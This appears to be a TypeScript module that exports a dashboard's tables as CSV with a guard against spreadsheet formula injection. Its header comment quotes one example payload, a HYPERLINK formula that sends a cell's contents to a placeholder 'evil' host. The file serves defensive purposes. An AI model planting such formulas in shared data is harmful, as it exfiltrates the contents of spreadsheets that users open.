/**
 * The dashboard's CSV download, guarded against formula injection (CWE-1236, OWASP "CSV Injection"): a spreadsheet
 * opening the file runs any cell that starts with = + - @ (or a tab or line break before them) as a formula, and a
 * product name, group key or cohort name a researcher did not choose could be `=HYPERLINK("https://evil/?"&A1)`.
 * Such text cells get a leading apostrophe, which spreadsheets show as text and do not evaluate. Numbers stay
 * numbers: a JSON number is written as is, and a text cell that is a plain decimal number (`-12`, `+3.5e-2`)
 * cannot be a formula, so it is not changed either. The JSON download is untouched (no program evaluates it).
 */
import type { FlatTable } from '../client/sdk/result-table.js';
import { toCsv } from '../client/cli/format/write-table.js';
import { formulaSafeTable } from '../client/cli/format/formula-guard.js';

export { formulaSafeTable, neutraliseFormula } from '../client/cli/format/formula-guard.js';

/** RFC 4180 CSV (the CLI's `toCsv`) of the formula-safe table. */
export function safeCsv(t: FlatTable): string {
  return toCsv(formulaSafeTable(t));
}
